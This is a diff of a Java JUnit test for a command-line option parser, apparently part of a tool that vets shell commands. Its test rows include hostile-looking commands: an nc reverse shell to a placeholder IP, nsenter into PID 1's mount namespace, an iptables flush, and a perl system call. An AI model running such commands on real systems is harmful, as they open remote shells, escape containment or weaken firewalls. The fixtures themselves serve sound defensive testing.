@@ -9,7 +9,7 @@ import org.junit.jupiter.params.provider.CsvSource;
 
 class OptionsTest {
   private static Options of(String program, String... arguments) {
-    return Options.of(program, List.of(arguments));
+    return Options.of(UsualName.of(program), List.of(arguments));
   }
 
   @ParameterizedTest
@@ -42,13 +42,13 @@ class OptionsTest {
         "sudo   | -E bash -c x                | -c            | false",
         "nsenter| -m/proc/1/ns/mnt -- ls      | --mount       | true",
         "iptables | -w -t nat -F OUTPUT       | --flush       | true",
-        "python3.11 | -c pass                 | -c            | true",
+        "python3.11 | -c pass                | -c            | true",
         "unheard-of | -xvf a                  | -v            | true",
         "unheard-of | --quiet                 | --quiet       | true",
       })
   void optionIsFoundInEachSpelling(
       String program, String arguments, String option, boolean expected) {
-    Options options = Options.of(program, List.of(arguments.split(" ")));
+    Options options = Options.of(UsualName.of(program), List.of(arguments.split(" ")));
 
     assertThat(options.has(option)).isEqualTo(expected);
   }
@@ -64,7 +64,7 @@ class OptionsTest {
         "wget   | -qO- https://x          | -O             | -",
         "wget   | --output-doc=a https://x| -O             | a",
         "perl   | -esystem(1)             | -e             | system(1)",
-        "python3| -cimport                | -c             | import",
+        "python| -cimport                | -c             | import",
         "node   | --eval x                | -e             | x",
         "nc     | -e/bin/sh 1.2.3.4 4     | --exec         | /bin/sh",
         "ssh    | -N -oRemoteForward=1 h  | -o             | RemoteForward=1",
@@ -72,7 +72,7 @@ class OptionsTest {
         "unheard-of | -o x                | -o             | x",
       })
   void valueIsFoundInEachForm(String program, String arguments, String option, String value) {
-    Options options = Options.of(program, List.of(arguments.split(" ")));
+    Options options = Options.of(UsualName.of(program), List.of(arguments.split(" ")));
 
     assertThat(options.value(option)).isEqualTo(value);
   }
